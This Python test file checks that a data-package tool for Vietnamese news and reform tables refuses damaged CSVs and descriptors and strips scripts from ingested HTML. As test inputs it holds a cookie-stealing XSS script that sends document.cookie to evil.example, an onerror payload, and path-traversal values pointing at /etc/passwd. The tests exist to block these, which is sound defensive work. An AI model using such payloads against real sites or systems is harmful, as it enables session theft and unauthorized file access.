"""The bad-input catalogue: every damaged table or descriptor is refused by `validate`,
`index` and `build` alike, with the file, line or row and field named, a non-zero
exit code, and the package, index and database left byte for byte as they were."""

from __future__ import annotations

import json
import os
import shutil

import pytest
from conftest import copy_package, run, snapshot

SEED = b"0939a2d78e482371"


def replace_once(old: bytes, new: bytes):
    def damage(data: bytes) -> bytes:
        assert old in data
        return data.replace(old, new, 1)
    return damage


def cp1258(data: bytes) -> bytes:
    return data.decode("utf-8").encode("cp1258", "replace")


def tcvn3(data: bytes) -> bytes:
    """A few letters as the old TCVN3 (ABC) fonts stored them: single bytes above 0x7f."""
    for letter, byte in (("ộ", b"\xe9"), ("ả", b"\xb6"), ("ệ", b"\xd6"), ("đ", b"\xae")):
        data = data.replace(letter.encode(), byte)
    return data


# (case, table, damage, what the message must say)
CSV_CASES = [
    ("windows-1258", "news", cp1258, ["data/news.csv", "line 2", "not UTF-8"]),
    ("tcvn3", "news", tcvn3, ["data/news.csv", "line 2", "not UTF-8"]),
    ("utf8-bom", "news", lambda d: b"\xef\xbb\xbf" + d, ["data/news.csv", "line 1", "byte-order mark"]),
    ("crlf", "units", lambda d: d.replace(b"\n", b"\r\n"), ["data/units.csv", "line 1", "carriage return"]),
    ("nfd-text", "news", lambda d: d.decode().replace("Hội", "Ho\u0302\u0323i").encode(),
     ["data/news.csv:2:title", "NFC"]),
    ("wrong-header", "news", replace_once(b"published_at", b"published"), ["data/news.csv:published_at", "published"]),
    ("extra-cell", "news", lambda d: d.rstrip(b"\n") + b",extra\n", ["data/news.csv:2", "extra value"]),
    ("missing-cell", "event_people", replace_once(b"chair,false,", b"chair,"), ["data/event_people.csv:2"]),
    ("unterminated-quote", "news", replace_once(b",HH,", b',"HH,'), ["data/news.csv", "line 2", "never closed"]),
    ("unterminated-quote-last-row", "event_findings",
     lambda d: d.rstrip(b"\n").rsplit(b"\n", 1)[0] + b'\n' + d.rstrip(b"\n").rsplit(b"\n", 1)[1].replace(b",", b',"', 1)
     + b"\n", ["data/event_findings.csv", "line 11", "never closed"]),       # header + 10 findings
    ("20-mb-cell", "news", replace_once(b",HH,", b",HH" + b"x" * 20_000_000 + b","),
     ["data/news.csv:2:author", "20,000,002 characters"]),
    ("empty-file", "publishers", lambda d: b"", ["data/publishers.csv", "empty"]),
    ("header-only", "news", lambda d: d.split(b"\n", 1)[0] + b"\n", ["data/reform_events.csv:2:news_id", SEED.decode()]),
    ("duplicate-id", "news", lambda d: d + d.split(b"\n", 1)[1], ["data/news.csv:3:id", "unique"]),
    ("broken-foreign-key", "news", replace_once(b",pre2025-21358,", b",pre2025-99999,"),
     ["data/news.csv:2:unit_id", "pre2025-99999"]),
    ("naive-datetime", "news", replace_once(b"2024-04-08T16:06:00+07:00", b"2024-04-08T16:06:00"),
     ["data/news.csv:2:published_at"]),
    ("day-first-date", "reform_events", replace_once(b",2024-03-28,", b",28/03/2024,"),
     ["data/reform_events.csv:2:event_date"]),
    ("unknown-reform-area", "event_findings", replace_once(b",tthc;", b",khong-co;"),
     ["data/event_findings.csv:2:areas", "khong-co"]),
    ("negative-views", "news", replace_once(b"+07:00,11,", b"+07:00,-11,"), ["data/news.csv:2:views"]),
    ("unit-code-of-other-unit", "news", replace_once(b",21358,", b",21361,"), ["data/news.csv:2:unit_code"]),
]


@pytest.fixture(scope="module")
def prepared(tmp_path_factory):
    """A package with its index and database already built."""
    folder = tmp_path_factory.mktemp("prepared")
    package = copy_package(folder)
    for command in ("index", "build"):
        assert run(command, package=package).exit_code == 0
    return folder


@pytest.fixture
def package(prepared, tmp_path):
    shutil.copytree(prepared, tmp_path / "p", symlinks=True)
    return tmp_path / "p" / "datapackage.json"


def refused_everywhere(package, expected: list[str], code: int = 1) -> None:
    before = snapshot(package.parent)
    for command in ("validate", "index", "build"):
        result = run(command, package=package)
        assert result.exit_code == code, (command, result.output)
        for text in expected:
            assert text in result.output, (command, text, result.output[:2000])
        assert "Traceback" not in result.output
        assert snapshot(package.parent) == before, command


@pytest.mark.parametrize("case, table, damage, expected", CSV_CASES, ids=[c[0] for c in CSV_CASES])
def test_damaged_table(package, case, table, damage, expected):
    path = package.parent / "data" / f"{table}.csv"
    path.write_bytes(damage(path.read_bytes()))
    refused_everywhere(package, expected)


def _resource_path(package, path: str) -> None:
    text = package.read_text(encoding="utf-8")
    package.write_text(text.replace('"data/news.csv"', json.dumps(path)), encoding="utf-8")


def _symlink_out(package) -> None:
    outside = package.parent.parent / "outside.csv"
    outside.write_bytes((package.parent / "data" / "news.csv").read_bytes())
    news = package.parent / "data" / "news.csv"
    news.unlink()
    os.symlink(outside, news)


def _field_type(package) -> None:
    descriptor = json.loads(package.read_text(encoding="utf-8"))
    news = next(r for r in descriptor["resources"] if r["name"] == "news")
    next(f for f in news["schema"]["fields"] if f["name"] == "author")["type"] = "colour"
    package.write_text(json.dumps(descriptor, ensure_ascii=False), encoding="utf-8")


DESCRIPTOR_CASES = [
    ("missing", lambda p: p.unlink(), ["datapackage.json", "no such file"], 2),
    ("not-json", lambda p: p.write_text("{not json", encoding="utf-8"), ["datapackage.json", "not valid JSON"], 2),
    ("path-escapes", lambda p: _resource_path(p, "../../etc/passwd"), ["../../etc/passwd", "leaves the package"], 2),
    ("absolute-path", lambda p: _resource_path(p, "/etc/passwd"), ["/etc/passwd", "must be relative"], 2),
    ("symlink-out", _symlink_out, ["news.csv", "leaves the package folder"], 2),
    ("unknown-field-type", _field_type, ["datapackage.json", "colour"], 1),
    ("missing-table-file", lambda p: (p.parent / "data" / "publishers.csv").unlink(),
     ["data/publishers.csv", "missing"], 1),
]


@pytest.mark.parametrize("case, damage, expected, code", DESCRIPTOR_CASES, ids=[c[0] for c in DESCRIPTOR_CASES])
def test_damaged_descriptor(package, case, damage, expected, code):
    damage(package)
    refused_everywhere(package, expected, code)


def test_ingest_refuses_a_100_mb_page_quickly(package, tmp_path):
    huge = tmp_path / "huge.html"
    with open(huge, "wb") as fh:                        # sparse: no 100 MB written to disk
        fh.truncate(100 * 1024 * 1024)
    before = snapshot(package.parent)
    result = run("ingest", str(huge), package=package)
    assert result.exit_code == 1 and "huge.html" in result.output and "too large" in result.output
    assert snapshot(package.parent) == before


def test_ingest_keeps_the_text_of_a_page_with_scripts_and_drops_the_scripts(tmp_path):
    from conftest import FIXTURES, RETRIEVED, read_table

    package = copy_package(tmp_path, empty_news=True)
    page = (FIXTURES / "long_mon_cchc_2024.html").read_text(encoding="utf-8")
    evil = "<script>document.location='https://evil.example/?c='+document.cookie</script>"
    page = page.replace("</h1>", "</h1>" + evil, 1).replace("<p>", "<p><img src=x onerror=alert(1)>", 1)
    assert evil in page
    saved = tmp_path / "with-scripts.html"
    saved.write_text(page, encoding="utf-8")
    result = run("ingest", str(saved), "--retrieved-at", RETRIEVED, package=package)
    assert result.exit_code == 0, result.output
    [news] = read_table(package, "news")
    stored = " ".join(news.values())
    assert "evil.example" not in stored and "<script" not in stored and "onerror" not in stored
    assert "Đinh Trung Hiếu" in news["lead"] + news["body"]
